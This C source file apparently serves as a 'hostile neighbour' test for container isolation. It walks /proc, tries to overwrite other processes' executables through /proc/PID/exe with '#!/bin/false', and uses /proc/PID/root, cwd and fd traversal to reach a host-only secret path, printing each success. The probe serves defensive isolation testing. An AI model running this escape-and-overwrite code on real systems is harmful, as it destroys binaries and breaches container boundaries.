/* SPDX-License-Identifier: MIT */
/*
 * A hostile neighbour: holds the executable of every process it sees that is neither
 * its own nor /bin/busybox, and tries to write to it; asks for secrets of the host through
 * /proc/PID/{root,cwd,fd}. Prints what it managed to do, a line each; at a line on
 * standard input it tries once more to write to what it holds, and ends.
 *
 *   watch SECRET     a path that exists on the host only
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { HELD_MAX = 400 };

static int held[HELD_MAX];
static int count;
static struct stat own[2];

static void
try_to_write(int fd)
{
	char path[64];
	int writable;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	writable = open(path, O_WRONLY | O_CLOEXEC);
	if (writable < 0)
		return;
	printf("opened for writing\n");
	if (write(writable, "#!/bin/false\n", 13) > 0)
		printf("overwritten\n");
	close(writable);
}

static bool
is_own(const struct stat *st)
{
	for (int i = 0; i < 2; i++)
		if (st->st_ino == own[i].st_ino && st->st_dev == own[i].st_dev)
			return true;
	return false;
}

static void
hold(const char *pid)
{
	char path[300];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (count == HELD_MAX || fstat(fd, &st) < 0 || is_own(&st)) {
		close(fd);
		return;
	}
	held[count++] = fd;
	try_to_write(fd);
}

static void
look(const char *pid, const char *where, const char *secret)
{
	char path[1000];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s/../../../../../../../..%s", pid, where, secret);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	printf("secret by %s\n", where);
	close(fd);
}

static void
look_everywhere(const char *pid, const char *secret)
{
	char name[16];

	look(pid, "root", secret);
	look(pid, "cwd", secret);
	for (int i = 3; i < 16; i++) {
		snprintf(name, sizeof(name), "fd/%d", i);
		look(pid, name, secret);
	}
}

static void
visit_all(const char *secret)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;
	char self[16];

	snprintf(self, sizeof(self), "%d", (int)getpid());
	while (dir != NULL && (entry = readdir(dir)) != NULL) {
		if (entry->d_name[0] < '1' || entry->d_name[0] > '9' ||
		    strcmp(entry->d_name, self) == 0)
			continue;
		hold(entry->d_name);
		look_everywhere(entry->d_name, secret);
	}
	closedir(dir);
}

int
main(int argc, char **argv)
{
	struct pollfd in = {.fd = 0, .events = POLLIN};

	if (argc != 2 || stat("/proc/self/exe", &own[0]) < 0 || stat("/bin/busybox", &own[1]) < 0)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("watching\n");
	while (poll(&in, 1, 0) == 0)
		visit_all(argv[1]);
	for (int i = 0; i < count; i++)
		try_to_write(held[i]);
	printf("held %d\n", count);
	return 0;
}
